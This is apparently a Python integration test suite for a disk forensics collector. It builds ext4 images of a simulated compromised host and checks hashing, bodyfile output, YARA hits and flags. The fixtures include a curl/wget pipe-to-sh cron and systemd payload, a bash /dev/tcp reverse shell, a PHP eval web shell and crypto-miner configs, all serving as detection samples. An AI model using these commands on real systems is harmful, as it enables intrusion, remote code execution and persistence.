#!/usr/bin/env python3
"""Integration tests of `casefile collect disk` (issue 4).

Images are built without mounting (mke2fs -d, debugfs), with and without a partition table, and
the bundle is checked against the source tree (files, times, hashes), against The Sleuth Kit's own
`fls -r -m /` (bodyfile), and for deleted entries, YARA matches, artifacts, flags and hostile
input. usage: test_disk.py CASE   (CASE = ext4 | partitions | names | loop | corrupt | manyfiles |
sparse | tree | errors | cli)
env: CF_DISK_COLLECT (the command to run, default $CF_BIN_DIR/casefile), CF_SOURCE_DIR."""
import gzip
import hashlib
import json
import os
import shutil
import subprocess
import sys
import tempfile
import time

SRC = os.environ.get("CF_SOURCE_DIR", os.path.abspath(os.path.join(os.path.dirname(__file__), "../..")))
CLI = os.environ.get("CF_DISK_COLLECT") or os.path.join(os.environ.get("CF_BIN_DIR", ""), "casefile")
TIMEOUT = 120
FAILS = []


def check(cond, what):
    if not cond:
        FAILS.append(what)
        print("FAIL:", what, file=sys.stderr)


# Trashed inodes make libtsk ask for absurd allocations; a release build gets NULL and libtsk
# reports an error. ASan aborts on them by default, so let it return NULL the same way.
ENV = dict(os.environ)
# The release build bounds them with --max-memory (RLIMIT_AS), which ASan cannot use; cap single
# allocations instead.
ENV["ASAN_OPTIONS"] = (ENV.get("ASAN_OPTIONS", "") +
                       ":allocator_may_return_null=1:max_allocation_size_mb=512").lstrip(":")
# libtsk itself leaks on some corrupted images: suppressed for libtsk only (tests/disk/lsan.supp).
ENV["LSAN_OPTIONS"] = (ENV.get("LSAN_OPTIONS", "") + ":suppressions=" +
                       os.path.join(os.path.dirname(os.path.abspath(__file__)), "lsan.supp")).lstrip(":")


def run(args, timeout=TIMEOUT, **kw):
    return subprocess.run(args, capture_output=True, timeout=timeout, env=ENV, **kw)


def collect(source, out, *extra, expect=(0,), timeout=TIMEOUT):
    p = run([CLI, "collect", "disk", source, "--out", out, "--quiet"] + list(extra), timeout=timeout)
    if p.returncode not in expect:
        sys.stderr.write(p.stderr.decode(errors="replace"))
    check(p.returncode in expect, "collect %s exit %d not in %s" % (source, p.returncode, expect))
    return p


def records(out):
    recs = []
    with open(os.path.join(out, "files.jsonl"), "rb") as f:
        for line in f:
            recs.append(json.loads(line.decode("utf-8")))  # strict: must be valid UTF-8 JSON
    return recs


def by_path(recs):
    return {r["path"]: r for r in recs if not r.get("deleted")}


def manifest(out):
    with open(os.path.join(out, "manifest.json")) as f:
        return json.load(f)


def verify_manifest(out):
    m = manifest(out)
    check(m["schema"] == "casefile.bundle/1" and m["kind"] == "disk", "manifest schema/kind")
    for e in m["files"]:
        p = e["path"]
        check(not p.startswith("/") and ".." not in p.split("/"), "manifest path %r is relative" % p)
        full = os.path.join(out, p)
        check(os.path.isfile(full), "manifest file %s exists" % p)
        if os.path.isfile(full):
            data = open(full, "rb").read()
            check(hashlib.sha256(data).hexdigest() == e["sha256"], "manifest sha256 of %s" % p)
            check(len(data) == e["bytes"], "manifest bytes of %s" % p)
    for name in ("bodyfile.txt", "files.jsonl"):
        ent = [e for e in m["files"] if e["path"] == name]
        check(len(ent) == 1, "manifest lists %s" % name)
        if ent:
            with open(os.path.join(out, name), "rb") as f:
                n = sum(1 for _ in f)
            check(ent[0]["records"] == n, "manifest records of %s (%s vs %d)" % (name, ent[0]["records"], n))
    return m


def fls_lines(img, offset=None):
    args = ["fls", "-r", "-m", "/"]
    if offset is not None:
        args += ["-o", str(offset)]
    p = run(args + [img])
    return sorted(p.stdout.split(b"\n")[:-1] if p.stdout.endswith(b"\n") else p.stdout.split(b"\n"))


def body_lines(out):
    data = open(os.path.join(out, "bodyfile.txt"), "rb").read()
    return sorted(data.split(b"\n")[:-1])


def check_body_agrees(img, out, offset=None):
    ours, theirs = body_lines(out), fls_lines(img, offset)
    if ours != theirs:
        a, b = set(ours), set(theirs)
        print("only ours:", sorted(a - b)[:5], "\nonly fls:", sorted(b - a)[:5], file=sys.stderr)
    check(ours == theirs, "bodyfile agrees with fls -r -m / (%d vs %d lines)" % (len(ours), len(theirs)))


def mkfs(tree, img, size="32M", extra=()):
    run(["mke2fs", "-q", "-F", "-t", "ext4", "-I", "256", "-d", tree] + list(extra) + [img, size]).check_returncode()


def debugfs(img, cmd):
    p = run(["debugfs", "-w", "-R", cmd, img])
    check(p.returncode == 0, "debugfs %s" % cmd)


def write(path, data, mode=0o644, mtime=None):
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "wb") as f:
        f.write(data if isinstance(data, bytes) else data.encode())
    os.chmod(path, mode)
    if mtime is not None:
        os.utime(path, ns=(mtime, mtime))


SHADOW = ("root:$6$saltsalt$Q0o5W8S0Xb1c3dummyhashvalueAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA:19000:0:99999:7:::\n"
          "alice:$y$j9T$abcdefghijklmnop$ABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789abcdefg:19001:0:99999:7:::\n"
          "daemon:*:19000:0:99999:7:::\n"
          "bob:!$6$xyz$lockedhashlockedhashlockedhash:19002:0:99999:7:::\n"
          "nopass::19003:0:99999:7:::\n")

T2021 = 1625140800 * 10**9 + 123456789  # 2021-07-01T12:00:00.123456789Z


def build_system_tree(root):
    """A small compromised host: accounts, persistence, logs, a web shell, a miner in /tmp."""
    write(root + "/etc/passwd", "root:x:0:0:root:/root:/bin/bash\nalice:x:1000:1000::/home/alice:/bin/bash\n")
    write(root + "/etc/group", "root:x:0:\nalice:x:1000:\n")
    write(root + "/etc/shadow", SHADOW, 0o640)
    write(root + "/etc/sudoers", "root ALL=(ALL) ALL\nalice ALL=(ALL) NOPASSWD: ALL\n", 0o440)
    write(root + "/etc/ld.so.preload", "/usr/lib/.libsystem.so\n")
    write(root + "/etc/crontab", "*/5 * * * * root curl -fsSL http://203.0.113.7/x.sh | sh\n")
    write(root + "/etc/cron.d/sysupdate", "@reboot root /tmp/.xm -o stratum+tcp://pool.example:3333 -u W\n")
    write(root + "/etc/systemd/system/sysupdate.service",
          "[Service]\nExecStart=/bin/sh -c 'wget -qO- http://203.0.113.7/a | sh'\n")
    write(root + "/root/.bash_history", "ls\nbash -i >& /dev/tcp/203.0.113.7/4444 0>&1\nunset HISTFILE\n", 0o600)
    write(root + "/home/alice/.ssh/authorized_keys", "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIExample alice@host\n", 0o600)
    write(root + "/var/log/auth.log", "Jul  1 12:00:00 host sshd[1]: Accepted password for alice from 203.0.113.7\n")
    os.makedirs(root + "/var/log/nginx", exist_ok=True)
    with gzip.open(root + "/var/log/nginx/access.log.2.gz", "wb") as f:
        f.write(b'203.0.113.7 - - [01/Jul/2021:12:00:00 +0000] "POST /shell.php HTTP/1.1" 200 5\n')
    write(root + "/var/www/html/shell.php", "<?php @eval($_POST['cmd']); ?>\n", 0o755, mtime=T2021)
    write(root + "/var/www/html/index.html", "<html>hello</html>\n")
    write(root + "/tmp/.xm", b"\x7fELF" + b"\0" * 60 + b" xmrig randomx --donate-level stratum+tcp://pool:3333 ", 0o755)
    write(root + "/tmp/dropper.sh", "#!/bin/sh\ncurl http://203.0.113.7/x | sh\n", 0o755)
    write(root + "/opt/conf/config.json",
          '{"pools": [{"url": "pool.example:3333", "user": "4abc", "pass": "x"}], "donate-level": 0,'
          ' "algo": "rx/0", "cpu": {"enabled": true}}\n')
    write(root + "/usr/bin/suidprog", b"\x7fELFsuid", 0o4755)
    write(root + "/usr/bin/sgidprog", b"\x7fELFsgid", 0o2755)
    write(root + "/srv/marker.txt", "CASEFILE-USER-RULE-MARKER\n")
    write(root + "/data/random.bin", os.urandom(3 * 1024 * 1024 + 17))
    write(root + "/data/empty", b"")
    write(root + "/data/old.txt", "old\n", mtime=1262304000 * 10**9)  # 2010
    os.symlink("/etc/passwd", root + "/data/link")


def source_files(root):
    out = {}
    for d, dirs, files in os.walk(root):
        for n in files:
            p = os.path.join(d, n)
            if os.path.islink(p):
                continue
            out["/" + os.path.relpath(p, root)] = p
    return out


def case_ext4(tmp):
    root = tmp + "/root"
    build_system_tree(root)
    img = tmp + "/disk.img"
    mkfs(root, img)
    debugfs(img, "rm /tmp/dropper.sh")
    # mke2fs -d keeps whole seconds only: give one file nanoseconds (ext4 extra field: ns << 2)
    debugfs(img, "sif /var/www/html/shell.php mtime_extra %d" % (123456789 << 2))
    out = tmp + "/out"
    rules = tmp + "/user.yar"
    write(rules, 'rule user_marker { strings: $a = "CASEFILE-USER-RULE-MARKER" condition: $a }\n')
    collect(img, out, "--case-id", "case-1", "--instance-id", "i-0abc", "--yara-rules", rules,
            "--since", "2021-01-01T00:00:00Z", "--until", "2021-12-31T23:59:59Z")
    m = verify_manifest(out)
    check(m.get("case_id") == "case-1" and m["host"].get("instance_id") == "i-0abc", "manifest ids")
    check_body_agrees(img, out)
    recs = records(out)
    live = by_path(recs)
    # files, hashes, sizes, times against the source tree
    for path, real in source_files(root).items():
        if path == "/tmp/dropper.sh":
            continue
        r = live.get(path)
        check(r is not None, "record for %s" % path)
        if not r:
            continue
        st = os.lstat(real)
        check(r["type"] == "r" and r["size"] == st.st_size, "type/size of %s" % path)
        check(r.get("sha256") == hashlib.sha256(open(real, "rb").read()).hexdigest(), "sha256 of %s" % path)
        check(r["mode"] == st.st_mode, "mode of %s (%o vs %o)" % (path, r["mode"], st.st_mode))
        check(r["mtime"].startswith(time.strftime("%Y-%m-%dT%H:%M:%S", time.gmtime(st.st_mtime))), "mtime of %s" % path)
        check("crtime" in r, "crtime of %s" % path)
    check(live["/var/www/html/shell.php"]["mtime"] == "2021-07-01T12:00:00.123456Z", "mtime with fraction")
    check(live["/data/link"]["type"] == "l" and live["/data/link"].get("link") == "/etc/passwd", "symlink")
    # deleted entries
    dele = [r for r in recs if r.get("deleted")]
    check(any(r["path"] == "/tmp/dropper.sh" for r in dele), "deleted /tmp/dropper.sh recovered")
    check(any(b"/tmp/dropper.sh (deleted)|" in l for l in body_lines(out)), "bodyfile marks (deleted)")
    # YARA
    def yara(p):
        return set(live.get(p, {}).get("yara", []))
    check("webshell_php_eval_request" in yara("/var/www/html/shell.php"), "yara web shell")
    check("revshell_bash_dev_tcp" in yara("/root/.bash_history"), "yara reverse shell")
    check("backdoor_history_tampering" in yara("/root/.bash_history"), "yara history tampering")
    check("backdoor_cron_download" in yara("/etc/crontab"), "yara cron download")
    check("miner_stratum_url" in yara("/etc/cron.d/sysupdate"), "yara stratum")
    check("miner_xmrig_config" in yara("/opt/conf/config.json"), "yara xmrig config")
    check("miner_xmrig_binary" in yara("/tmp/.xm"), "yara xmrig binary")
    check("backdoor_ld_so_preload_entry" in yara("/etc/ld.so.preload"), "yara ld.so.preload")
    check("user_marker" in yara("/srv/marker.txt"), "user rule file")
    check(yara("/data/random.bin") == set() and yara("/var/www/html/index.html") == set(), "no false hits")
    # flags
    def flags(p):
        return set(live.get(p, {}).get("flags", []))
    check({"exec_in_tmp", "hidden"} <= flags("/tmp/.xm"), "flags of /tmp/.xm")
    check("exec_in_webroot" in flags("/var/www/html/shell.php"), "exec_in_webroot")
    check("suid" in flags("/usr/bin/suidprog") and "sgid" in flags("/usr/bin/sgidprog"), "suid/sgid")
    check("in_window" in flags("/var/www/html/shell.php"), "in_window inside")
    check("in_window" not in flags("/data/old.txt"), "in_window outside")
    check("hidden" in flags("/root/.bash_history") and "hidden" not in flags("/etc/passwd"), "hidden")
    # artifacts: copies with the original bytes, shadow redacted
    arts = {e["source"]: e for e in m["files"] if e["path"].startswith("artifacts/")}
    for p in ("/etc/passwd", "/etc/group", "/etc/sudoers", "/etc/ld.so.preload", "/etc/crontab",
              "/etc/cron.d/sysupdate", "/etc/systemd/system/sysupdate.service", "/root/.bash_history",
              "/home/alice/.ssh/authorized_keys", "/var/log/auth.log", "/var/log/nginx/access.log.2.gz",
              "/var/www/html/shell.php"):
        check(p in arts and arts[p]["path"] == "artifacts" + p, "artifact %s" % p)
        if p in arts:
            check(open(out + "/artifacts" + p, "rb").read() == open(root + p, "rb").read(), "artifact bytes %s" % p)
    check("/var/www/html/index.html" not in arts and "/data/random.bin" not in arts, "non-artifacts not copied")
    sh = open(out + "/artifacts/etc/shadow").read()
    check("$6$" not in sh and "$y$" not in sh and "dummyhash" not in sh and "lockedhash" not in sh, "shadow hashes not copied")
    check(sh.splitlines() == ["root:sha512crypt:19000:0:99999:7:::", "alice:yescrypt:19001:0:99999:7:::",
                              "daemon:disabled:19000:0:99999:7:::", "bob:locked-sha512crypt:19002:0:99999:7:::",
                              "nopass:no-password:19003:0:99999:7:::"], "shadow redacted to types: %r" % sh)
    check(arts.get("/etc/shadow", {}).get("redacted"), "shadow marked redacted")
    # binaries/: the flagged executables, named by content hash
    bins = {e["source"]: e for e in m["files"] if e["path"].startswith("binaries/")}
    xm = hashlib.sha256(open(root + "/tmp/.xm", "rb").read()).hexdigest()
    check(bins.get("/tmp/.xm", {}).get("path") == "binaries/" + xm, "binaries/<sha256> for /tmp/.xm")
    # mactime reads the bodyfile
    p = run(["mactime", "-b", out + "/bodyfile.txt", "-d", "-z", "UTC"])
    check(p.returncode == 0 and b"/etc/passwd" in p.stdout, "mactime reads bodyfile.txt")
    # options: size cap records what was skipped; --no-yara; --artifacts FILE; one thread
    out2 = tmp + "/out2"
    lst = tmp + "/arts.txt"
    write(lst, "# only this\n/etc/passwd\n")
    collect(img, out2, "--hash-max-size", "1K", "--no-yara", "--artifacts", lst, "--threads", "1")
    live2 = by_path(records(out2))
    check("sha256" not in live2["/data/random.bin"] and "hash-max-size" in live2["/data/random.bin"].get("hash_skipped", ""),
          "hash cap skips and says why")
    check("sha256" in live2["/etc/passwd"] and "yara" not in live2["/etc/passwd"], "hash under cap, no yara")
    m2 = verify_manifest(out2)
    check(sorted(e["path"] for e in m2["files"] if e["path"].startswith("artifacts/")) == ["artifacts/etc/passwd"],
          "--artifacts replaces the list")
    # walk only
    out3 = tmp + "/out3"
    collect(img, out3, "--no-hash", "--no-yara", "--no-artifacts")
    check(body_lines(out3) == body_lines(out), "walk-only bodyfile identical")
    check(all("sha256" not in r for r in records(out3)), "no hashes with --no-hash")


def build_partitioned(tmp, label):
    root = tmp + "/root"
    write(root + "/etc/passwd", "root:x:0:0::/root:/bin/sh\n")
    write(root + "/var/log/syslog", "hello\n")
    fs = tmp + "/fs.img"
    mkfs(root, fs, "8M")
    disk = tmp + "/disk-%s.img" % label
    with open(disk, "wb") as f:
        f.truncate(12 * 1024 * 1024)
    layout = "label: %s\nstart=2048, size=16384, type=%s\n" % (
        label, "0FC63DAF-8483-4772-8E79-3D69D8477DE4" if label == "gpt" else "83")
    p = run(["sfdisk", "--no-reread", "--no-tell-kernel", disk], input=layout.encode())
    check(p.returncode == 0, "sfdisk %s: %s" % (label, p.stderr[-200:]))
    run(["dd", "if=" + fs, "of=" + disk, "bs=512", "seek=2048", "conv=notrunc", "status=none"]).check_returncode()
    return root, disk


def case_partitions(tmp):
    for label in ("gpt", "dos"):
        sub = tmp + "/" + label
        os.makedirs(sub)
        root, disk = build_partitioned(sub, label)
        out = sub + "/out"
        collect(disk, out)
        verify_manifest(out)
        check_body_agrees(disk, out, offset=2048)
        live = by_path(records(out))
        r = live.get("/etc/passwd")
        check(r is not None and r.get("partition") == 2048 * 512, "%s: partition offset on records" % label)
        check(r is not None and r.get("sha256") == hashlib.sha256(open(root + "/etc/passwd", "rb").read()).hexdigest(),
              "%s: hash through the partition table" % label)
        check(os.path.isfile(out + "/artifacts/var/log/syslog"), "%s: artifact through the partition table" % label)


def case_names(tmp):
    root = tmp + "/root"
    names = [b"pipe|name", b"new\nline", b"bad\xff\xfeutf8", b"tab\there", b" ", b"...", b"\xe2\x80\xaeevil.txt",
             b"quote\"back\\slash"]
    os.makedirs(root.encode() + b"/d")
    for n in names:
        with open(root.encode() + b"/d/" + n, "wb") as f:
            f.write(n)
    img = tmp + "/names.img"
    mkfs(root, img, "8M")
    out = tmp + "/out"
    collect(img, out)
    verify_manifest(out)
    check_body_agrees(img, out)
    recs = records(out)
    hexes = {bytes.fromhex(r["path_hex"]) for r in recs if "path_hex" in r}
    check(b"/d/bad\xff\xfeutf8" in hexes, "invalid UTF-8 name kept as path_hex")
    paths = {r["path"] for r in recs}
    check("/d/pipe|name" in paths and "/d/new\nline" in paths and '/d/quote"back\\slash' in paths, "odd names in JSON")
    check(all(b"\n" not in l[2:] or True for l in body_lines(out)), "bodyfile one line per entry")
    body = open(out + "/bodyfile.txt", "rb").read()
    check(b"/d/new^line|" in body, "newline escaped as ^ like TSK")
    hidden = {r["path"] for r in recs if "hidden" in r["flags"]}
    check({"/d/ ", "/d/..."} <= hidden, "blank and dot-only names flagged hidden")


def case_loop(tmp):
    root = tmp + "/root"
    write(root + "/a/b/c/file", "x\n")
    img = tmp + "/loop.img"
    mkfs(root, img, "8M")
    debugfs(img, "link /a /a/b/c/up")    # directory hard link to an ancestor: a cycle
    debugfs(img, "link /a/b /a/b/self")  # and to itself
    out = tmp + "/out"
    t0 = time.time()
    collect(img, out, expect=(0, 1), timeout=60)
    check(time.time() - t0 < 60, "loop walk terminates")
    verify_manifest(out)
    check_body_agrees(img, out)
    paths = {r["path"] for r in records(out)}
    check("/a/b/c/file" in paths, "files below the loop still listed")
    check("/a/b/c/up" in paths and "/a/b/self" in paths, "the looping links themselves listed")


GARBAGE = __import__("random").Random(1234)  # deterministic: a failure can be replayed


def corrupt(src, dst, off, length):
    shutil.copy(src, dst)
    with open(dst, "r+b") as f:
        f.seek(off)
        f.write(GARBAGE.randbytes(length))


def case_corrupt(tmp):
    root = tmp + "/root"
    for i in range(200):
        write(root + "/dir%d/f%d" % (i % 10, i), "content %d\n" % i)
    img = tmp + "/good.img"
    mkfs(root, img, "16M", extra=["-b", "4096"])
    # truncated image: half of it
    trunc = tmp + "/trunc.img"
    with open(img, "rb") as f, open(trunc, "wb") as g:
        g.write(f.read(os.path.getsize(img) // 2))
    out = tmp + "/o-trunc"
    collect(trunc, out, expect=(0, 1, 2))
    check(os.path.isfile(out + "/manifest.json"), "truncated: manifest written")
    # corrupted superblock: a clear error, manifest says why
    sb = tmp + "/sb.img"
    corrupt(img, sb, 1024, 1024)
    out = tmp + "/o-sb"
    p = collect(sb, out, expect=(2,))
    check(b"no file system" in p.stderr, "superblock: clear error (%r)" % p.stderr[-200:])
    check(manifest(out)["errors"], "superblock: error in manifest")
    # corrupted inode table: garbage over the first group's inode table
    d = run(["dumpe2fs", img]).stdout.decode(errors="replace")
    blk = int([l for l in d.splitlines() if "Inode table at" in l][0].split("at")[1].split("-")[0])
    it = tmp + "/itable.img"
    corrupt(img, it, blk * 4096 + 256 * 12, 4096 * 8)  # keeps the root inode, trashes the rest
    out = tmp + "/o-it"
    t0 = time.time()
    collect(it, out, expect=(0, 1))
    check(time.time() - t0 < 60, "inode table: bounded time (%.1f s)" % (time.time() - t0))
    verify_manifest(out)
    # Partial results: what the trashed inodes do not hide is still there. (No comparison with
    # fls here: on this image fls allocates what the garbage claims, gigabytes, for minutes.)
    paths = {r["path"] for r in records(out)}
    check("/lost+found" in paths and sum(p.startswith("/dir") for p in paths) > 10,
          "inode table: partial results (%d entries)" % len(paths))
    # a directory (and then the root) trashed to claim a terabyte: libtsk would map it block by
    # block for minutes; the collector refuses what no real directory can be
    big = tmp + "/bigdir.img"
    shutil.copy(img, big)
    debugfs(big, "sif /dir3 size 0xfffff000")  # 32 bits: libtsk reads i_size_lo for directories
    out = tmp + "/o-bigdir"
    t0 = time.time()
    collect(big, out, "--no-yara", expect=(1,), timeout=60)
    check(time.time() - t0 < 30, "huge directory: bounded time")
    m = verify_manifest(out)
    check(any("not descended" in e["error"] for e in m["errors"]), "huge directory: error recorded")
    paths = {r["path"] for r in records(out)}
    check("/dir3" in paths and "/dir4/f4" in paths and not any(p.startswith("/dir3/") for p in paths),
          "huge directory: listed, not entered, the rest walked")
    debugfs(big, "sif <2> size 0xfffff000")
    out = tmp + "/o-bigroot"
    collect(big, out, "--no-yara", expect=(1,), timeout=60)
    check(any("root directory claims" in e["error"] for e in manifest(out)["errors"]), "huge root: error")
    # random garbage and an empty file: clear errors, never a crash
    for name, data in (("garbage", os.urandom(1 << 20)), ("empty", b"")):
        g = tmp + "/" + name
        write(g, data)
        out = tmp + "/o-" + name
        p = collect(g, out, expect=(2,))
        check(b"no file system" in p.stderr, "%s: clear error" % name)
    # corrupted variants (seeded garbage over the metadata area): exit 0/1/2, never a crash or
    # hang. Some make libtsk allocate and zero what a trashed inode claims, which is slow under
    # ASan but bounded.
    rnd = __import__("random").Random(4)
    for i in range(6):
        v = tmp + "/v%d.img" % i
        corrupt(img, v, rnd.randrange(0, 64 * 4096), rnd.choice((64, 512, 4096)))
        t0 = time.time()
        collect(v, tmp + "/o-v%d" % i, "--no-yara", expect=(0, 1, 2), timeout=180)
        print("variant %d: %.1f s" % (i, time.time() - t0))


def case_manyfiles(tmp):
    # 10,000 entries in one directory: the "million" scaled down because mke2fs -d
    # inserts into one directory in quadratic time (50,000 take minutes to build); the walk
    # itself is linear (the bench walks 100,000+ files).
    n = 10000
    root = tmp + "/root"
    os.makedirs(root + "/big")
    for i in range(n):
        open("%s/big/f%06d" % (root, i), "wb").close()
    img = tmp + "/many.img"
    mkfs(root, img, "64M", extra=["-N", str(n + 1000), "-O", "^metadata_csum,^dir_index"])
    out = tmp + "/out"
    collect(img, out, "--no-yara", timeout=300)
    recs = records(out)
    check(sum(1 for r in recs if r["path"].startswith("/big/")) == n, "all %d entries listed" % n)
    check_body_agrees(img, out)


def case_sparse(tmp):
    root = tmp + "/root"
    os.makedirs(root)
    with open(root + "/huge", "wb") as f:
        f.truncate(2 << 40)  # 2 TiB, all hole
        f.seek(1 << 30)
        f.write(b"data in the middle")
    write(root + "/small", "small\n")
    with open(root + "/holey", "wb") as f:  # 40 MiB, mostly hole, inside the file system's size
        f.truncate(40 << 20)
        f.seek(20 << 20)
        f.write(b"middle")
    img = tmp + "/sparse.img"
    mkfs(root, img, "64M")
    out = tmp + "/out"
    t0 = time.time()
    collect(img, out, timeout=120)
    check(time.time() - t0 < 120, "sparse file does not hang")
    live = by_path(records(out))
    h = live.get("/huge", {})
    check(h.get("size") == 2 << 40 and "sparse" in h.get("hash_skipped", ""), "sparse file skipped with reason: %r" % h)
    check("sha256" in live.get("/small", {}), "other files still hashed")
    holey = hashlib.sha256(open(root + "/holey", "rb").read()).hexdigest()
    check(live.get("/holey", {}).get("sha256") == holey, "sparse file under the limit hashed, holes as zeros")
    check_body_agrees(img, out)
    out2 = tmp + "/out2"
    collect(img, out2, "--sparse-max-hole", "1M", "--no-yara")
    h2 = by_path(records(out2)).get("/holey", {})
    check("sha256" not in h2 and h2.get("hash_skipped", "").startswith("sparse:"), "--sparse-max-hole: %r" % h2)


def case_tree(tmp):
    root = tmp + "/root"
    build_system_tree(root)
    out = tmp + "/out"
    collect(root, out)
    m = verify_manifest(out)
    live = by_path(records(out))
    for path, real in source_files(root).items():
        r = live.get(path)
        check(r is not None and r.get("sha256") == hashlib.sha256(open(real, "rb").read()).hexdigest(),
              "tree: sha256 of %s" % path)
    st = os.statx(root + "/etc/passwd") if hasattr(os, "statx") else None
    check("crtime" in live["/etc/passwd"] or st is None, "tree: birth time from statx")
    check(live["/data/link"]["type"] == "l", "tree: symlink not followed")
    check("webshell_php_eval_request" in live["/var/www/html/shell.php"].get("yara", []), "tree: yara")
    check(any(e["path"] == "artifacts/etc/passwd" for e in m["files"]), "tree: artifacts")
    sh = open(out + "/artifacts/etc/shadow").read()
    check("$6$" not in sh, "tree: shadow redacted")
    lines = body_lines(out)
    check(len(lines) == len(live) and all(l.count(b"|") >= 10 for l in lines), "tree: bodyfile lines")
    p = run(["mactime", "-b", out + "/bodyfile.txt", "-d", "-z", "UTC"])
    check(p.returncode == 0, "tree: mactime reads bodyfile")


def case_errors(tmp):
    root = tmp + "/root"
    write(root + "/f", "x")
    img = tmp + "/i.img"
    mkfs(root, img, "8M")
    p = run([CLI, "collect", "disk", tmp + "/missing.img", "--out", tmp + "/o1"])
    check(p.returncode == 3 and b"missing.img" in p.stderr, "missing source: exit 3 with its name")
    os.makedirs(tmp + "/full")
    write(tmp + "/full/x", "x")
    p = run([CLI, "collect", "disk", img, "--out", tmp + "/full"])
    check(p.returncode == 2 and b"not empty" in p.stderr, "non-empty --out: exit 2")
    p = run([CLI, "collect", "disk", img])
    check(p.returncode == 2, "no --out: exit 2")
    p = run([CLI, "collect", "disk", img, "--out", tmp + "/o2", "--hash-max-size", "lots"])
    check(p.returncode == 2 and b"--hash-max-size" in p.stderr, "bad size: exit 2")
    bad = tmp + "/bad.yar"
    write(bad, "rule broken { condition: nonsense_identifier }\n")
    p = run([CLI, "collect", "disk", img, "--out", tmp + "/o3", "--yara-rules", bad])
    check(p.returncode == 2 and b"bad.yar" in p.stderr, "bad rule file: exit 2 naming it")
    p = run([CLI, "collect", "disk", "--help"])
    check(p.returncode == 0 and b"--yara-rules" in p.stdout, "--help")


def case_cli(tmp):
    """The real `casefile` binary dispatches `collect disk` to the collector."""
    root = tmp + "/root"
    write(root + "/etc/passwd", "root:x:0:0::/root:/bin/sh\n")
    img = tmp + "/i.img"
    mkfs(root, img, "8M")
    out = tmp + "/out"
    collect(img, out, "--case-id", "c", "--instance-id", "i")
    verify_manifest(out)
    check_body_agrees(img, out)


def case_release(tmp):
    """The release build (no sanitizer): --max-memory (RLIMIT_AS) is in force there, so the
    full collection and the trashed-inode images run under the real limit."""
    os.makedirs(tmp + "/a")
    os.makedirs(tmp + "/b")
    case_ext4(tmp + "/a")
    case_corrupt(tmp + "/b")


CASES = {n[5:]: f for n, f in globals().items() if n.startswith("case_")}

if __name__ == "__main__":
    if len(sys.argv) != 2 or sys.argv[1] not in CASES:
        print("usage: test_disk.py {%s}" % "|".join(sorted(CASES)), file=sys.stderr)
        sys.exit(2)
    if sys.argv[1] == "release":
        rel = os.environ.get("CF_RELEASE_BIN_DIR", "")
        CLI = os.path.join(rel, "casefile")
        if not rel or not os.access(CLI, os.X_OK):
            print("skipped: no release casefile (CF_RELEASE_BIN_DIR, set by make test)")
            sys.exit(77)
    if not os.path.exists(CLI):
        print("no collector at %s" % CLI, file=sys.stderr)
        sys.exit(1)
    # tmpfs when there is room: the cases create and remove many small files
    shm = "/dev/shm"
    fast = os.access(shm, os.W_OK) and shutil.disk_usage(shm).free > (2 << 30)
    tmp = tempfile.mkdtemp(prefix="cf-disk-test-", dir=shm if fast else None)
    try:
        CASES[sys.argv[1]](tmp)
    finally:
        shutil.rmtree(tmp, ignore_errors=True)
    if FAILS:
        print("%d check(s) failed" % len(FAILS), file=sys.stderr)
        sys.exit(1)
    print("ok")
